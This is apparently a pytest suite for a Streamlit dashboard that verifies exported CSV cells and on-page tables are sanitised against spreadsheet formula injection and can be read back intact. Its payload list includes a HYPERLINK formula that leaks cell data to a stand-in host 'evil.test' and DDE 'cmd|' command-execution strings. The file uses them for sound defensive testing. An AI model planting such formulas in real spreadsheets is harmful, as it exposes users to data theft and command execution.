"""What leaves as a table: opened in a spreadsheet, every text is text and every number a number."""

from __future__ import annotations

import ast
import csv
import io
import json
import random
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from dashboard.components.tables import frame_of, sheet_cell
from tests.data.builders import CORPORA

ROOT = Path(__file__).parent.parent
PAYLOADS = CORPORA / "csv-injection-payloadbox" / "Intruder" / "csv-payload.txt"
NAUGHTY = CORPORA / "naughty-strings" / "blns.json"
#: The characters by which a spreadsheet knows a formula, or loses its place.
BEGINNINGS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"
OWN_PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "\u00a0=1+1",
    '=HYPERLINK("http://evil.test?"&A1,"here")', "=cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "\uff1d1+1",
    "'=1+1", "''=1+1", "-", "+", "=", "@", "-1", "+1.5", "-1e3", "-1,000", "1-1", "", "'", "a=1", 'a"\n=1+1', "a,=1+1",
    "a;=1+1", "a\r=1+1", "a\n=1+1", "a\t=1+1", "a; '=1+1",
)  # fmt: skip
# Where this code writes CSV, and for whom: files of producers for our own reader, which must be exactly what they say.
WRITERS = {"data/feeds/exports.py", "data/simulate/landing.py"}
# Tables on the page whose cells are given to Streamlit as they are.
SHOWN = {"dataframe", "data_editor", "table", "download_button"}


def payloads() -> list[str]:
    if not PAYLOADS.exists():
        pytest.skip(f"the corpus {PAYLOADS} is not on this machine; TIDEWAITER_CORPORA says where it is")
    found = PAYLOADS.read_text(encoding="utf-8").splitlines()
    return [*found, *json.loads(NAUGHTY.read_text(encoding="utf-8")), *OWN_PAYLOADS]


def as_streamlit_writes(frame: pd.DataFrame) -> str:
    """The CSV that a table's own button saves: a cell is quoted where it holds a comma, a quote or a line feed."""

    def cell(value: Any) -> str:
        text = "" if value is None else str(value)
        return f'"{text.replace(chr(34), chr(34) * 2)}"' if any(c in text for c in ',"\n') else text

    lines = [frame.columns, *frame.itertuples(index=False)]
    return "".join(",".join(map(cell, line)) + "\n" for line in lines)


def pieces(cell: str) -> list[tuple[str, str]]:
    """What spreadsheets of one country or another make cells of, each with what parts it from the next."""
    parted = [*re.split("([;\t\n])", cell), ""]
    return list(zip(parted[::2], parted[1::2], strict=True))


def leads(piece: str, end: str) -> bool:
    """Whether a cell begins like a formula, apostrophes and blanks before it left aside."""
    bare = piece.lstrip("'").lstrip()
    return bare[:1] in BEGINNINGS if bare else end in ("\t", "\n")


def undone(cell: str) -> str:
    """What a cell said before it left: each piece that leads without the apostrophe it got."""
    return "".join(
        (piece[1:] if piece[:1] == "'" and leads(piece, end) else piece) + end for piece, end in pieces(cell)
    )


def is_inert(cell: str) -> bool:
    """Whether a spreadsheet has nothing to calculate: no formula's beginning, but for plain numbers."""
    if cell and not set(cell) - set("0123456789+-.eE"):
        try:
            return isinstance(float(cell), float)
        except ValueError:
            pass
    return all(piece[:1] == "'" or not leads(piece, end) for piece, end in pieces(cell))


def check(cells: list[str]) -> None:
    """Written, read again and compared; the text a cell stands for is the text that was there."""
    text = as_streamlit_writes(frame_of([{"Number": n, "Text": cell} for n, cell in enumerate(cells)]))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["Number", "Text"]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(len(cells))]
    for cell, (_, written) in zip(cells, rows[1:], strict=True):
        assert is_inert(written), (cell, written)
        assert undone(written) == cell.replace("\r\n", "\n").replace("\r", "\n"), (cell, written)


def test_no_known_payload_is_a_formula_after_it_left_and_every_one_can_be_read_back() -> None:
    check(payloads())


def test_ten_thousand_cells_leave_as_text_and_come_back_equal() -> None:
    draw = random.Random(20261125)
    alphabet = [*BEGINNINGS, *"'\"',;| 01.eEaZß東\u00a0\u2060", "cmd|", "SUM(", "1e5"]
    cells = ["".join(draw.choices(alphabet, k=draw.randint(0, 9))) for _ in range(10_000)]
    check(cells)


@settings(max_examples=300)
@given(st.text(max_size=30), st.text(max_size=30))
def test_two_texts_never_leave_as_the_same_cell(one: str, other: str) -> None:
    assert is_inert(sheet_cell(one))
    assert undone(sheet_cell(one)) == one.replace("\r\n", "\n").replace("\r", "\n")
    assert (sheet_cell(one) == sheet_cell(other)) == (undone(sheet_cell(one)) == undone(sheet_cell(other)))


@pytest.mark.parametrize("value", [1, -1, -1.5, 0, None, True, float("inf"), "-1", "+1.5", "-1e3", "12"])
def test_numbers_stay_numbers(value: Any) -> None:
    assert sheet_cell(value) is value
    assert frame_of([{"a": -1, "b": -2.5}]).to_dict("records") == [{"a": -1, "b": -2.5}]


def test_headings_leave_as_text_too() -> None:
    assert list(frame_of([{"=1+1": "x", "Plain": "y"}]).columns) == ["'=1+1", "Plain"]


# --- every way out goes through it ------------------------------------------------------------------------


def calls(folder: str) -> Iterator[tuple[str, ast.Call, str]]:
    for path in sorted((ROOT / folder).rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                yield path.relative_to(ROOT).as_posix(), node, ast.unparse(node.func)


def test_csv_and_sheets_are_written_only_where_producers_are_played() -> None:
    ways = {"csv.writer", "csv.DictWriter"}
    found = {
        place
        for room in ("casework", "dashboard", "data", "ml", "orchestration")
        for place, _, called in calls(room)
        if called in ways or called.endswith((".to_csv", ".to_excel", ".write_csv"))
    }
    assert found <= WRITERS, (
        f"{sorted(found - WRITERS)} write tables for people: give each cell to sheet_cell"
    )


def test_every_table_on_a_page_is_made_by_the_function_that_makes_its_cells_inert() -> None:
    """A frame may also come from a function of the page, which is then looked at in its place."""
    made_elsewhere = {
        (place, called) for place, _, called in calls("dashboard") if called.endswith("DataFrame")
    }
    assert made_elsewhere == {
        ("dashboard/components/queue_table.py", "pd.DataFrame"),  # colours, not cells
        ("dashboard/components/tables.py", "pd.DataFrame"),
    }
    for place, call, called in calls("dashboard"):
        if called.rpartition(".")[2] in SHOWN and called.startswith("st."):
            given_frame = ast.unparse(call.args[0])
            assert given_frame.startswith(("frame_of(", "styled_frame(frame")) or given_frame == "frame", (
                f"{place}:{call.lineno} shows {given_frame}, which did not come through frame_of"
            )


def test_a_table_on_a_page_shows_a_formula_with_its_apostrophe() -> None:
    def page() -> None:
        from dashboard.components.tables import show_table

        show_table([{"Customer": "=cmd|'/C calc'!A0", "Loss": -12}], "losses")

    shown = AppTest.from_function(page).run().dataframe[0].value
    assert shown.to_dict("records") == [{"Customer": "'=cmd|'/C calc'!A0", "Loss": -12}]
